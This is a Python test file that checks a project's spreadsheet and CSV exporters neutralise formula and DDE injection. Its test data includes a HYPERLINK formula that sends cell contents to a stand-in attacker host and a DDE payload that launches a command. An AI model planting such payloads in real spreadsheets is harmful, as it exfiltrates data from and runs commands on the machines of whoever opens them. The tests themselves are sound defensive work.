"""Spreadsheet exports never carry a live formula, whatever people typed (formula / DDE injection)."""

import csv
import io

from openpyxl import load_workbook

from faro.lib.xlsx import csv_text, neutralise, workbook_bytes

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\rx",
    "=cmd|' /C calc'!A0",
]


STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_problems_xlsx(content: bytes) -> list[str]:
    """Every cell of every sheet that a spreadsheet would evaluate."""
    book = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(STARTS))
    ]


def formula_problems_csv(text: str) -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")))
    return [value for row in rows for value in row if value.startswith(STARTS)]


def test_neutralise_quotes_formula_starts_and_leaves_other_text() -> None:
    assert [neutralise(v) for v in HOSTILE] == [f"'{v}" for v in HOSTILE]
    assert neutralise("Marlon Grant") == "Marlon Grant"
    assert neutralise("") == ""


def test_the_workbook_writer_neutralises_header_and_cells_but_keeps_numbers() -> None:
    content = workbook_bytes([("Sheet", ["=title", "n"], [[value, -5] for value in HOSTILE])])
    assert formula_problems_xlsx(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet["A1"].value == "'=title"
    assert sheet["A2"].value == "'" + HOSTILE[0]
    assert sheet["B2"].value == -5


def test_the_csv_writer_neutralises_every_text() -> None:
    text = csv_text(["=h"], [[value] for value in HOSTILE])
    assert text.startswith("\ufeff")
    assert formula_problems_csv(text) == []
